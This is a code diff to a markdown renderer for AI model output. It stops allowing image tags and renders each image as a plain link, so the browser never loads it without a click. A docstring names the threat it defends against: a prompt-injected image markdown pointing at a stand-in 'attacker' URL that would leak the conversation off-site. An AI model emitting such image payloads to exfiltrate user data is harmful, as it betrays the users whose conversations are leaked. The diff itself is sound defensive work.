@@ -41,7 +41,6 @@ _TAGS = {
     "code",
     "pre",
     "a",
-    "img",
     "table",
     "thead",
     "tbody",
@@ -53,8 +52,7 @@ _TAGS = {
     "button",
 }
 _ATTRIBUTES = {
-    "a": {"href", "title"},
-    "img": {"src", "alt", "title"},
+    "a": {"href", "title", "class"},
     "ol": {"start"},
     "th": {"class"},
     "td": {"class"},
@@ -89,9 +87,22 @@ def _markdown() -> MarkdownIt:
     md = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
     md.add_render_rule("fence", _fence)
     md.add_render_rule("code_block", _fence)
+    md.add_render_rule("image", _image_as_link)
     for cell in ("th_open", "td_open"):
         md.add_render_rule(cell, _aligned_cell)
     return md
+
+
+def _image_as_link(self, tokens, idx, options, env) -> str:
+    """An image in model output becomes a link to it. Loaded by the browser, its URL could carry the
+    conversation off-site without a click (a prompt-injected `![](https://attacker/?d=…)`)."""
+    token = tokens[idx]
+    src = token.attrGet("src") or ""
+    label = self.renderInlineAsText(token.children or [], options, env) or src
+    opened = sum(1 if t.type == "link_open" else -1 for t in tokens[:idx] if t.type in ("link_open", "link_close"))
+    if opened > 0:  # already inside a link: its words are enough (a link cannot hold a link)
+        return str(escape(label))
+    return f'<a href="{escape(src)}" class="image-link">{escape(label)}</a>'
 
 
 def _aligned_cell(self, tokens, idx, options, env) -> str:
